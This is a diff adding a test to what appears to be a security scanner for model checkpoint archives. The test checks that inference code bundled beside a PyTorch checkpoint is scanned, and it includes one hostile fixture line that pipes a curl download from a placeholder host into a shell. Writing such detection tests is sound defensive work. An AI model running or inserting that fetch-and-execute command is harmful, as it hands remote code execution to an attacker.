@@ -15,7 +15,7 @@ from torch import nn
 
 from sentinel.artifacts import Artifact
 from sentinel.errors import SentinelError
-from sentinel.findings import Severity, Verdict
+from sentinel.findings import Report, Severity, Verdict
 from sentinel.formats.torch import TorchArchive, looks_like_torch, parse
 from sentinel.limits import Budget
 from sentinel.readers import MemoryReader
@@ -350,3 +350,17 @@ class TestDisagreements:
         entries = _entries(storage)
         entries.insert(1 if first else 2, other)
         assert "SNT1101" in ids(scan(build(*entries)))
+
+
+def test_the_code_of_a_server_beside_a_checkpoint_is_python() -> None:
+    inner = saved({"weight": torch.zeros(2)})
+
+    def report(source: bytes) -> Report:
+        entries = [Entry("model.pth", inner), Entry("code/inference.py", source)]
+        return scan(build(entries), "model.zip")
+
+    plain = report(b"import torch\ndef model_fn(d):\n    return torch.load(d + '/model.pth')\n")
+    assert plain.verdict is Verdict.CLEAN
+    acts = report(b"import os\nos.system('curl http://x.invalid | sh')\n")
+    assert acts.verdict is Verdict.MALICIOUS
+    assert not any(found.rule_id.startswith("SNT141") for found in acts.findings)
